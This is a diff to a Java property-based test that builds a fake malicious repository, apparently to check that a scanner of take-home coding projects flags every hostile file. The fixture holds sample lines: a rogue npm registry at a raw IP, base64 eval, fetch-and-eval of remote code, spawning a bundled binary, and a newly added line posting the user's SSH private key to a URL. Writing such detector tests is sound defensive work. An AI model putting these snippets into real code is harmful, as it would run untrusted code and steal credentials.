@@ -21,7 +21,7 @@ final class TakeHomeProperties {
     List<String> files = new ArrayList<>(bad().files());
     Collections.shuffle(files, new Random(seed));
 
-    assertAllSeen("Repository t.zip, 8 files\nbin/agent.exe\n" + String.join("", files));
+    assertAllSeen("Repository t.zip, 9 files\nbin/agent.exe\n" + String.join("", files));
   }
 
   @Property(tries = 150)
@@ -83,6 +83,7 @@ final class TakeHomeProperties {
         .file(".npmrc", "registry=http://185.12.44.9:4873/")
         .file("src/hidden.js", "eval(atob('YQ=='))")
         .file("src/fetched.js", "const r = await fetch(u);\neval(await r.text());")
+        .file("src/taken.js", "axios.post(u, fs.readFileSync(home + '/.ssh/id_rsa'));")
         .file("src/run.js", "spawn('./bin/agent.exe');");
   }
 }
